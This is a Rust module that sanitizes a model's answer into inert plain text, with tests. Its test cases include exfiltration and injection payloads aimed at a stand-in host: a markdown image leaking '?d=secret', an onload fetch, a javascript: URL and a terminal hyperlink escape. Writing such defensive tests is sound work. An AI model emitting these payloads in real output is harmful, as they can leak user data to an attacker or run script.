//! A model's words as plain text: no pictures, no markup, no links that could be followed, no characters that hide or
//! reorder others. What is taken out is said where it stood.

use regex::Regex;
use std::sync::OnceLock;
use timberline_chat::is_hidden;

/// The longest answer that is shown, in characters.
const ANSWER_MAX: usize = 6_000;

struct Patterns {
    escapes: Regex,
    picture: Regex,
    link: Regex,
    reference: Regex,
    tag: Regex,
    address: Regex,
    bold: Regex,
}

fn patterns() -> Option<&'static Patterns> {
    static PATTERNS: OnceLock<Option<Patterns>> = OnceLock::new();
    let make = || {
        Some(Patterns {
            escapes: Regex::new(r"\x1b(\[[0-9;?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)?|.)").ok()?,
            picture: Regex::new(r"!\[([^\]]*)\]\s*(\([^)]*\)?|\[[^\]]*\]?)").ok()?,
            link: Regex::new(r"\[([^\]]*)\]\s*(\([^)]*\)?|\[[^\]]+\])").ok()?,
            reference: Regex::new(r"(?m)^\s*\[[^\]]+\]:\s*\S.*$").ok()?,
            tag: Regex::new(r"(?s)<!--.*?(-->|$)|</?[A-Za-z!?|][^<>]*>?").ok()?,
            address: Regex::new(r"(?i)\b(https?|ftp|file|data|javascript|vbscript|mailto|tel|smb|ws|wss|blob|tauri|ipc|asset):\S*|(?i)\bwww\.\S+|(^|\s)//[\w.-]+\S*|\\\\\w[\w.-]*\\\S*").ok()?,
            bold: Regex::new(r"(\*\*|__|`{1,3})").ok()?,
        })
    };
    PATTERNS.get_or_init(make).as_ref()
}

/// The words as they may be shown. `known` says of an address with a scheme whether a step returned it; such a one is
/// evidence and stays, as `hxxp`, so that nothing takes it for a link.
#[must_use]
pub fn inert(text: &str, known: &dyn Fn(&str) -> bool) -> String {
    let Some(p) = patterns() else { return String::new() };
    let text = p.escapes.replace_all(text, "");
    let text: String = text
        .chars()
        .filter(|c| !is_hidden(*c))
        .map(|c| if c.is_control() && c != '\n' { ' ' } else { c })
        .collect();
    let text = p.picture.replace_all(&text, "(picture removed)");
    let text = p.link.replace_all(&text, "$1");
    let text = p.reference.replace_all(&text, "");
    let text = p.tag.replace_all(&text, "");
    let text = p.address.replace_all(&text, |found: &regex::Captures<'_>| {
        let whole = found.get(0).map_or("", |m| m.as_str());
        let bare = whole.trim().trim_end_matches(['.', ',', ')', ';', '"', '\'']);
        if known(bare) && bare.to_lowercase().starts_with("http") {
            whole.replacen("http", "hxxp", 1)
        } else {
            " (link removed)".to_owned()
        }
    });
    let text = p.bold.replace_all(&text, "");
    let mut out = String::new();
    let mut blank = 0;
    for line in text.lines() {
        let line = line.trim_end().trim_start_matches('#').trim_start();
        blank = if line.is_empty() { blank + 1 } else { 0 };
        if blank < 2 {
            out.push_str(line);
            out.push('\n');
        }
    }
    let out = out.trim();
    match out.char_indices().nth(ANSWER_MAX) {
        Some((at, _)) => format!("{} ... (cut)", out.get(..at).unwrap_or(out)),
        None => out.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expect: &str) {
        assert_eq!(inert(text, &|a| a.contains("seen.example")), expect, "{text:?}");
    }

    #[test]
    fn words_stay_and_ways_out_do_not() {
        check("There were **147** failures for `root`.", "There were 147 failures for root.");
        check("![x](https://evil.example/?d=secret) done", "(picture removed) done");
        check("![x][ref]\n[ref]: https://evil.example/a", "(picture removed)");
        check("see [the report](https://evil.example/)", "see the report");
        check("<img src=x onerror=alert(1)>hi<script>x</script>", "hix");
        check("<https://evil.example/a>", "");
        check("go to https://evil.example/?q=1 now", "go to  (link removed) now");
        check("javascript:alert(1)", "(link removed)");
        check("it asked for http://seen.example/x.", "it asked for hxxp://seen.example/x.");
        check("\x1b[31mred\x1b[0m \x1b]8;;http://evil\x07link", "red link");
        check("a\u{202e}b\u{200b}c\u{e0041}", "abc");
        check("1 < 2 and 3 > 2", "1 < 2 and 3 > 2");
        check("\\\\evil.example\\share\\x", "(link removed)");
    }

    #[test]
    fn nothing_that_a_browser_would_fetch_is_left() {
        for text in [
            "![a](//evil.example/x)",
            "[![a](https://evil.example/b)](https://evil.example/c)",
            "<a href='https://evil.example'>x</a>",
            "<svg onload=fetch('https://evil.example')>",
            "![a]( <https://evil.example/x> )",
            "<style>@import 'https://evil.example'</style>",
            "<iframe srcdoc='x'>",
            "[a]:https://evil.example/q\n![a]",
            "data:text/html,<script>1</script>",
            "<!-- <img src=https://evil.example> ",
            "![a](https://evil.example/x",
            "<img src=https://evil.example/x",
        ] {
            let out = inert(text, &|_| false);
            assert!(
                !out.contains("evil.example") && !out.contains("<img") && !out.contains("src"),
                "{text}: {out}"
            );
        }
    }
}
